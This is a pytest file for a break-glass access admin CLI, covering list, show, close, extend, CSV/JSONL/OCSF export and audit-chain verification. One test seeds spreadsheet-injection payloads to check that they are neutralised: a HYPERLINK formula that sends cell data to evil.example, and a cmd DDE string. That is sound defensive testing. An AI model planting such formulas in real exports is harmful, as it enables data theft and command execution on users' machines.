"""`breakglass-admin` (bot.admin) on SQLite and on DynamoDB (moto): list, show, close, export, exit codes."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from slack_sdk import WebClient

from bot import admin
from bot.localslack.webapi import FakeSlack
from store import BreakGlassEvent, Limits, Status, Store
from store.dynamodb import DynamoDBStore
from store.model import OutboxKind
from store.sqlite import SQLiteStore
from tests.harness import BOT_TOKEN, SIGNING_SECRET
from tests.store_fixtures import HOUR, T0, make_event

pytest_plugins = ["tests.store_fixtures"]

SLACK_ENV = ("SLACK_BOT_TOKEN", "SLACK_SIGNING_SECRET", "SLACK_APP_TOKEN", "SLACK_API_URL")


@dataclass
class Backend:
    url: str
    store: Store


@pytest.fixture(autouse=True)
def _clean_env(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    monkeypatch.chdir(tmp_path)  # no .env from the working tree
    for name in (*SLACK_ENV, "BREAKGLASS_STORE", "BREAKGLASS_POLICY", "BREAKGLASS_AUDIT_CHANNEL"):
        monkeypatch.delenv(name, raising=False)


@pytest.fixture(params=["sqlite", "dynamodb"])
def backend(request: pytest.FixtureRequest, tmp_path: Path) -> Iterator[Backend]:
    if request.param == "sqlite":
        path = tmp_path / "admin.db"
        store = SQLiteStore(path)
        yield Backend(f"sqlite:///{path}", store)
        store.disconnect()
    else:
        client, table = request.getfixturevalue("moto_dynamodb")
        yield Backend(f"dynamodb://{table}", DynamoDBStore(table, client=client))


def seed(store: Store) -> dict[str, BreakGlassEvent]:
    """alice/prod closed, bob/sandbox expired, alice/sandbox active, carol/prod closed and reviewed."""
    closed = store.create(make_event(invoker="alice@example.com", profile="prod", now=T0))
    closed = store.close(closed.id, by="U0IC", reason="incident over", now=T0 + timedelta(minutes=30))
    expired = store.create(make_event(invoker="bob@example.com", profile="sandbox", now=T0 + 2 * HOUR))
    expired = store.expire(expired.id, now=T0 + 3 * HOUR)
    active = store.create(make_event(invoker="alice@example.com", profile="sandbox", now=T0 + 4 * HOUR))
    reviewed = store.create(make_event(invoker="carol@example.com", profile="prod", now=T0 + 6 * HOUR))
    reviewed = store.close(reviewed.id, by="U0CAROL", reason="done", now=T0 + 6 * HOUR + timedelta(minutes=5))
    current = store.get(reviewed.id)
    reviewed = store.save(
        current.review(by="U0SECA", notes="justified, checked CloudTrail", now=T0 + 7 * HOUR)
    )
    return {"closed": closed, "expired": expired, "active": active, "reviewed": reviewed}


def run(capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[int, str, str]:
    code = admin.main(list(argv))
    out, err = capsys.readouterr()
    return code, out, err


def listed_ids(out: str) -> list[str]:
    return [line.split()[0] for line in out.splitlines()[1:] if line.strip()]


# -- list ---------------------------------------------------------------------------------------------


def test_list_all_newest_first(backend: Backend, capsys: pytest.CaptureFixture[str]) -> None:
    events = seed(backend.store)
    code, out, _ = run(capsys, "--store", backend.url, "list")
    assert code == 0
    assert out.splitlines()[0].split()[:3] == ["ID", "STATUS", "PROFILE"]
    assert listed_ids(out) == [events[k].id for k in ("reviewed", "active", "expired", "closed")]


LIST_CASES = [
    (["--status", "closed"], ["reviewed", "closed"]),
    (["--status", "active"], ["active"]),
    (["--profile", "sandbox"], ["active", "expired"]),
    (["--invoker", "alice@example.com"], ["active", "closed"]),
    (["--invoker", "alice@example.com", "--status", "closed"], ["closed"]),
    (["--profile", "prod", "--since", (T0 + HOUR).isoformat()], ["reviewed"]),
    (["--since", "2026-03-01T14:00:00Z"], ["reviewed", "active", "expired"]),
    (["--since", "2026-03-01"], ["reviewed", "active", "expired", "closed"]),
    (["--invoker", "nobody@example.com"], []),
]


def test_list_filters(
    backend: Backend, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(admin, "PAGE_SIZE", 1)  # every listing spans several pages
    events = seed(backend.store)
    for filters, expected in LIST_CASES:
        code, out, err = run(capsys, "list", "--store", backend.url, *filters)
        assert code == 0, filters
        assert listed_ids(out) == [events[k].id for k in expected], filters
        if not expected:
            assert "no matching events" in err


def test_list_limit_and_store_from_environment(
    backend: Backend, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    seed(backend.store)
    monkeypatch.setenv("BREAKGLASS_STORE", backend.url)
    code, out, err = run(capsys, "list", "--limit", "2")
    assert code == 0
    assert len(listed_ids(out)) == 2
    assert "first 2" in err


# -- show ---------------------------------------------------------------------------------------------


def test_show_every_field_and_timeline(backend: Backend, capsys: pytest.CaptureFixture[str]) -> None:
    event = seed(backend.store)["reviewed"]
    code, out, _ = run(capsys, "--store", backend.url, "show", event.id.upper())
    assert code == 0
    fields = {line.split()[0] for line in out.split("\ntimeline:")[0].splitlines() if line.strip()}
    assert set(BreakGlassEvent.model_fields) <= fields
    timeline = out.split("timeline:")[1]
    steps = [line for line in timeline.splitlines() if line.strip()]
    assert [s.split(None, 2)[2].split()[0] for s in steps] == ["created", "closed", "reviewed"]
    assert "justified, checked CloudTrail" in timeline
    assert "closed by U0CAROL: done" in timeline


def test_show_expired_timeline(backend: Backend, capsys: pytest.CaptureFixture[str]) -> None:
    event = seed(backend.store)["expired"]
    code, out, _ = run(capsys, "--store", backend.url, "show", event.id)
    assert code == 0
    assert "  expired" in out.split("timeline:")[1]
    assert "awaiting security review" in out


def test_show_exit_codes(backend: Backend, capsys: pytest.CaptureFixture[str]) -> None:
    seed(backend.store)
    code, out, err = run(capsys, "--store", backend.url, "show", "0123456789abcdef")
    assert (code, out) == (1, "")
    assert "not found" in err
    code, out, err = run(capsys, "--store", backend.url, "show", "not-an-id")
    assert (code, out) == (2, "")
    assert "not an event id" in err


# -- close --------------------------------------------------------------------------------------------


def _active_now(store: Store, **extra: Any) -> BreakGlassEvent:
    return store.create(
        make_event(invoker="alice@example.com", profile="sandbox", now=datetime.now(UTC), **extra)
    )


def test_close_without_slack_leaves_announcements_owed(
    backend: Backend, capsys: pytest.CaptureFixture[str]
) -> None:
    event = _active_now(backend.store)
    code, out, err = run(
        capsys, "--store", backend.url, "close", event.id, "--reason", "incident over", "--operator", "alice"
    )
    assert code == 0, err
    assert event.id in out
    assert "owed" in err
    assert "SLACK_BOT_TOKEN" in err
    closed = backend.store.get(event.id)
    assert closed.status is Status.CLOSED
    assert closed.closed_by == "operator:alice"
    assert closed.closed_reason == "incident over"
    assert closed.owed_kinds == (
        OutboxKind.AUDIT_UPDATE,
        OutboxKind.CLOSE_THREAD,
        OutboxKind.CLOSE_DM,
        OutboxKind.DM_ENDED,
    )
    assert [e.id for e in backend.store.list_owed(now=datetime.now(UTC) + timedelta(seconds=1))] == [event.id]


def _announced_event(
    backend: Backend, monkeypatch: pytest.MonkeyPatch, fake: FakeSlack
) -> tuple[Any, BreakGlassEvent]:
    """An active event with its audit message in the fake Slack, and the Slack settings the CLI reads."""
    audit = WebClient(token=BOT_TOKEN, base_url=fake.url).chat_postMessage(channel="C0AUDIT", text="audit")
    event = _active_now(backend.store, audit_channel="C0AUDIT", audit_ts=audit["ts"])
    monkeypatch.setenv("SLACK_BOT_TOKEN", BOT_TOKEN)
    monkeypatch.setenv("SLACK_SIGNING_SECRET", SIGNING_SECRET)
    monkeypatch.setenv("SLACK_API_URL", fake.url)
    monkeypatch.setenv("BREAKGLASS_AUDIT_CHANNEL", "C0AUDIT")
    return audit, event


def test_close_with_slack_delivers_announcements(
    backend: Backend, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch, fake: FakeSlack
) -> None:
    audit, event = _announced_event(backend, monkeypatch, fake)
    code, _, err = run(
        capsys, "close", event.id, "--store", backend.url, "--reason", "not needed", "--operator", "bob"
    )
    assert code == 0, err
    closed = backend.store.get(event.id)
    assert closed.status is Status.CLOSED
    assert closed.closed_by == "operator:bob"
    assert closed.outbox == ()
    assert len(fake.thread("C0AUDIT", audit["ts"])) == 1
    assert len(fake.history("C0AUDIT", audit["ts"])) == 2  # posted, then updated to "closed"
    dms = [c for c in fake.calls_to("chat.postMessage") if c.params["channel"] == closed.slack_user_id]
    assert len(dms) == 1  # the invoker learns that an operator closed their access
    assert "operator:bob" in json.dumps(dms[0].params)


def test_close_refusals_and_usage(backend: Backend, capsys: pytest.CaptureFixture[str]) -> None:
    events = seed(backend.store)
    base = ("--store", backend.url, "close")
    args = ("--reason", "done with it", "--operator", "alice")
    code, _, err = run(capsys, *base, events["closed"].id, *args)
    assert code == 1
    assert "already closed" in err
    code, _, err = run(capsys, *base, "0123456789abcdef", *args)
    assert code == 1
    # past its expiry but not yet swept: recorded as expired, not closed (as in Slack)
    code, _, err = run(capsys, *base, events["active"].id, *args)
    assert code == 1
    assert "expired" in err
    assert backend.store.get(events["active"].id).status is Status.EXPIRED
    code, _, _ = run(capsys, *base, events["active"].id, "--reason", "  ", "--operator", "alice")
    assert code == 2
    code, _, _ = run(capsys, *base, events["active"].id, "--reason", "x", "--operator", "bad name!")
    assert code == 2
    code, _, _ = run(capsys, *base, events["active"].id, "--operator", "alice")
    assert code == 2


# -- extend -------------------------------------------------------------------------------------------


def test_extend_with_slack_is_announced_as_in_slack(
    backend: Backend, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch, fake: FakeSlack
) -> None:
    audit, event = _announced_event(backend, monkeypatch, fake)
    reason = ("--reason", "the failover still needs watching")
    code, out, err = run(
        capsys, "extend", event.id, "--store", backend.url, "--duration", "15m", *reason, "--operator", "bob"
    )
    assert code == 0, err
    assert "extended event" in out
    extended = backend.store.get(event.id)
    assert extended.expires_at == event.expires_at + timedelta(minutes=15)
    assert extended.extensions[0].by == "operator:bob"
    assert extended.outbox == ()
    assert any(
        "Extended by 15 minutes by operator:bob" in m["text"] for m in fake.thread("C0AUDIT", audit["ts"])
    )
    # the built-in sandbox offers 15m, 30m, 1h: 2 h in all at most (1 h 15 min used), so 1 h is refused
    code, _, err = run(
        capsys, "extend", event.id, "--store", backend.url, "--duration", "1h", *reason, "--operator", "bob"
    )
    assert code == 1 and "not offered for extending" in err
    assert backend.store.get(event.id) == extended


def test_extend_refused_by_a_rate_limit_says_which_and_changes_nothing(
    backend: Backend,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
    fake: FakeSlack,
    tmp_path: Path,
) -> None:
    """Extensions count toward the policy's rate limits through the CLI too (the same use case)."""
    policy = tmp_path / "policy.yml"
    policy.write_text(
        "audit_channel: C0AUDIT\nrate_limits:\n  window: 1h\n  per_user: 1\n"
        "profiles:\n  prod-admin:\n    durations: [15m, 30m, 1h]\n  sandbox:\n    durations: [15m, 30m, 1h]\n"
    )
    monkeypatch.setenv("BREAKGLASS_POLICY", str(policy))
    audit = WebClient(token=BOT_TOKEN, base_url=fake.url).chat_postMessage(channel="C0AUDIT", text="audit")
    _announced_event(backend, monkeypatch, fake)  # the Slack settings the CLI read (and alice's event)
    event = backend.store.create(  # created as the bot does, in bob's window: its one place
        make_event(
            invoker="bob@example.com", now=datetime.now(UTC), audit_channel="C0AUDIT", audit_ts=audit["ts"]
        ),
        limits=Limits(window=timedelta(hours=1), per_user=1),
    )
    code, _, err = run(
        capsys,
        *("extend", event.id, "--store", backend.url, "--duration", "15m"),
        *("--reason", "the failover still needs watching", "--operator", "bob"),
    )
    assert code == 1, err
    assert (
        "refused: Rate limit: at most 1 break-glass invocations and extensions per person per 1 hour" in err
    )
    assert backend.store.get(event.id) == event
    assert fake.thread("C0AUDIT", audit["ts"]) == []


# -- export -------------------------------------------------------------------------------------------


def test_export_csv(
    backend: Backend, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(admin, "PAGE_SIZE", 1)
    events = seed(backend.store)
    code, out, err = run(capsys, "--store", backend.url, "export", "--since", "2026-03-01", "--format", "csv")
    assert code == 0, err
    rows = list(csv.reader(io.StringIO(out)))
    assert tuple(rows[0]) == admin.EXPORT_COLUMNS
    by_id = {row[0]: dict(zip(admin.EXPORT_COLUMNS, row, strict=True)) for row in rows[1:]}
    assert len(rows) - 1 == len(by_id) == 4
    assert set(by_id) == {e.id for e in events.values()}
    reviewed = by_id[events["reviewed"].id]
    assert reviewed["status"] == "closed"
    assert reviewed["reviewed_by"] == "U0SECA"
    assert reviewed["duration_seconds"] == "3600"
    assert reviewed["created_at"] == "2026-03-01T18:00:00.000000Z"
    assert by_id[events["active"].id]["ended_at"] == ""
    assert "exported 4 events" in err


def test_export_jsonl_since_until_and_output(
    backend: Backend, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    events = seed(backend.store)
    target = tmp_path / "audit.jsonl"
    code, out, err = run(
        capsys,
        "--store",
        backend.url,
        "export",
        "--since",
        "2026-03-01T13:00:00Z",
        "--until",
        "2026-03-01T17:00:00Z",
        "--format",
        "jsonl",
        "--output",
        str(target),
    )
    assert code == 0, err
    assert out == ""
    records = [json.loads(line) for line in target.read_text().splitlines()]
    assert [r["id"] for r in records] == [events["active"].id, events["expired"].id]
    assert all(tuple(r) == admin.JSONL_COLUMNS for r in records)
    assert records[1]["status"] == "expired"
    assert records[0]["ended_at"] is None
    assert records[0]["escalated"] is False


def test_export_progress_and_many_pages(
    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    monkeypatch.setattr(admin, "PROGRESS_EVERY", 5)
    monkeypatch.setattr(admin, "PAGE_SIZE", 3)
    store = SQLiteStore(tmp_path / "many.db")
    for i in range(12):
        event = store.create(make_event(invoker=f"user{i}@example.com", now=T0 + i * timedelta(minutes=1)))
        if i % 3 == 0:
            store.close(event.id, by="U0IC", reason="over", now=T0 + HOUR)
    code, out, err = run(
        capsys,
        "--store",
        f"sqlite:///{tmp_path / 'many.db'}",
        "export",
        "--since",
        "2026-01-01",
        "--format",
        "jsonl",
    )
    assert code == 0
    created = [json.loads(line)["created_at"] for line in out.splitlines()]
    assert len(created) == 12
    assert created == sorted(created, reverse=True)
    assert "exported 5 events…" in err
    assert "exported 10 events…" in err
    store.disconnect()


@pytest.mark.parametrize(
    "argv",
    [
        ["export", "--format", "csv"],  # --since is required
        ["export", "--since", "yesterday", "--format", "csv"],
        ["export", "--since", "2026-03-02", "--until", "2026-03-01", "--format", "csv"],
        ["export", "--since", "2026-03-01", "--format", "xml"],
        ["frobnicate"],
        [],
        ["--store", "mysql://x", "list"],
        ["list", "--limit", "0"],
    ],
)
def test_usage_errors_exit_2(capsys: pytest.CaptureFixture[str], tmp_path: Path, argv: list[str]) -> None:
    if "--store" not in argv:
        argv = ["--store", f"sqlite:///{tmp_path / 'x.db'}", *argv]
    code, out, err = run(capsys, *argv)
    assert code == 2
    assert out == ""
    assert err


# -- create-table -------------------------------------------------------------------------------------


def test_create_table_sqlite_is_a_no_op(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    code, _, err = run(capsys, "--store", f"sqlite:///{tmp_path / 'x.db'}", "create-table")
    assert code == 0
    assert "first use" in err


def test_create_table_dynamodb(moto_dynamodb: tuple[Any, str], capsys: pytest.CaptureFixture[str]) -> None:
    client, _ = moto_dynamodb
    table = "breakglass-admin-created"
    try:
        code, out, _ = run(capsys, "create-table", "--store", f"dynamodb://{table}")
        assert code == 0
        assert f"created table {table}" in out
        code, out, _ = run(capsys, "create-table", "--store", f"dynamodb://{table}")
        assert code == 0
        assert "already exists" in out
        assert "TTL on `ttl` already enabled" in out
    finally:
        client.delete_table(TableName=table)


def test_export_csv_neutralises_formulas_and_jsonl_stays_exact(
    backend: Backend, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    """Issue 12.5: cells that a spreadsheet would run (=, +, -, @, tab, CR first) get a leading quote."""
    texts = {
        "justification": '=HYPERLINK("http://evil.example/?"&A1,"Click for details")',
        "incident": "+cmd|' /C calc'!A0",
    }
    event = backend.store.create(
        make_event(now=T0, invoker="\tmallory@example.com", request_id="\r=1+1", **texts)
    )
    closed = backend.store.close(event.id, by="@here", reason="-2+3 and the rest", now=T0 + HOUR)
    backend.store.save(
        closed.updated(reviewed_by="U0SEC", reviewed_at=T0 + 2 * HOUR, review_notes="\tlooks fine\r")
    )
    code, out, err = run(capsys, "--store", backend.url, "export", "--since", "2026-03-01", "--format", "csv")
    assert code == 0, err
    (row,) = [
        dict(zip(admin.EXPORT_COLUMNS, r, strict=True))
        for r in list(csv.reader(io.StringIO(out, newline="")))[1:]
    ]
    assert row["justification"] == "'" + texts["justification"]
    assert row["incident"] == "'" + texts["incident"]
    assert row["closed_by"] == "'@here"
    assert row["closed_reason"] == "'-2+3 and the rest"
    assert row["review_notes"] == "looks fine"  # stored stripped: nothing to neutralise
    assert (row["invoker"], row["request_id"]) == ("'\tmallory@example.com", "'\r=1+1")
    assert row["profile"] == "prod-admin" and row["source"] == "breakglass"

    target = tmp_path / "audit.jsonl"
    args = ("export", "--since", "2026-03-01", "--format", "jsonl", "--output", str(target))
    code, _, err = run(capsys, "--store", backend.url, *args)
    assert code == 0, err
    (record,) = [json.loads(line) for line in target.read_text().splitlines()]
    assert record["justification"] == texts["justification"]
    assert record["incident"] == texts["incident"]
    assert (record["closed_by"], record["closed_reason"]) == ("@here", "-2+3 and the rest")
    assert (record["invoker"], record["request_id"]) == ("\tmallory@example.com", "\r=1+1")


def test_show_and_export_an_event_that_still_owes_steps(
    backend: Backend, capsys: pytest.CaptureFixture[str]
) -> None:
    """An ended event owes its activity digest for minutes after it ends: show and export must not choke
    on the outbox entries (kinds only in the export; kind, version and time in show)."""
    from store.model import Deferred

    event = backend.store.create(make_event(now=T0))
    later = T0 + 2 * HOUR
    event = backend.store.close(
        event.id,
        by="U0IC",
        reason="incident over",
        now=T0 + HOUR,
        outbox=[OutboxKind.AUDIT_UPDATE, Deferred(OutboxKind.ACTIVITY_DIGEST, later)],
    )
    code, out, _ = run(capsys, "--store", backend.url, "show", event.id)
    assert code == 0
    assert "audit_update (v2), activity_digest (v2) not before 2026-03-01T14:00:00.000000Z" in out
    assert "activity digest: none stored" in out
    code, out, _ = run(capsys, "--store", backend.url, "export", "--since", "2026-03-01", "--format", "jsonl")
    assert code == 0
    assert json.loads(out)["outbox"] == ["audit_update", "activity_digest"]
    assert json.loads(out)["activity"] is None
    code, out, _ = run(capsys, "--store", backend.url, "export", "--since", "2026-03-01", "--format", "csv")
    assert code == 0
    row = dict(zip(*list(csv.reader(io.StringIO(out))), strict=True))
    assert row["outbox"] == "audit_update activity_digest" and row["activity_status"] == ""


def test_export_ocsf(backend: Backend, capsys: pytest.CaptureFixture[str]) -> None:
    """`--format ocsf`: one OCSF record per step of each event (JSON lines), chained per event."""
    from bot.audit_feed import event_records
    from bot.audit_feed.ocsf import verify_chain

    events = seed(backend.store)
    code, out, err = run(
        capsys, "--store", backend.url, "export", "--since", "2026-03-01", "--format", "ocsf"
    )
    assert code == 0, err
    records = [json.loads(line) for line in out.splitlines()]
    expected = [r for e in events.values() for r in event_records(backend.store.get(e.id))]
    assert sorted(r["metadata"]["uid"] for r in records) == sorted(r["metadata"]["uid"] for r in expected)
    assert {r["class_uid"] for r in records} == {3005}
    for event in events.values():
        assert verify_chain([r for r in records if r["metadata"]["correlation_uid"] == event.id]) == []
    assert "exported 4 events" in err


def test_verify_audit_finds_edits_gaps_and_unknown_records(
    backend: Backend, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    events = seed(backend.store)
    feed = tmp_path / "feed.jsonl"
    code, _, err = run(
        capsys,
        "--store",
        backend.url,
        "export",
        "--since",
        "2026-03-01",
        "--format",
        "ocsf",
        "--output",
        str(feed),
    )
    assert code == 0, err
    verify = ("--store", backend.url, "verify-audit", str(feed), "--since", "2026-03-01")
    code, out, err = run(capsys, *verify)
    assert (code, out) == (0, ""), err
    assert "every chain holds" in err

    records = [json.loads(line) for line in feed.read_text().splitlines()]
    reviewed = [r for r in records if r["metadata"]["correlation_uid"] == events["reviewed"].id]
    assert len(reviewed) >= 3
    edited, removed = reviewed[0]["metadata"]["uid"], reviewed[1]["metadata"]["uid"]
    active_uids = [
        r["metadata"]["uid"] for r in records if r["metadata"]["correlation_uid"] == events["active"].id
    ]
    stranger = json.loads(json.dumps(reviewed[0]))
    stranger["unmapped"]["breakglass"]["event_id"] = "00000000000000aa"
    stranger["metadata"]["uid"] = "00000000000000aa:invoked"
    kept = []
    for record in records:
        uid = record["metadata"]["uid"]
        if uid == edited:
            record["message"] = "nothing to see here"
        if uid == removed or uid in active_uids:
            continue
        kept.append(record)
    feed.write_text("".join(json.dumps(r) + "\n" for r in [*kept, stranger]) + "garbage\n")
    code, out, err = run(capsys, *verify)
    assert code == 1
    lines = out.splitlines()
    assert f"{edited}: edited (differs from the record the stored event gives)" in lines
    assert f"{removed}: missing from the feed (gap)" in lines
    assert any(line.startswith(removed.split(":")[0]) and "gap before seq" in line for line in lines)
    assert "00000000000000aa:invoked: unknown record (the store has no event 00000000000000aa)" in lines
    assert all(
        f"{uid}: missing from the feed (gap)" in lines for uid in active_uids
    )  # found only via --since
    assert any("not a breakglass OCSF record" in line for line in lines)
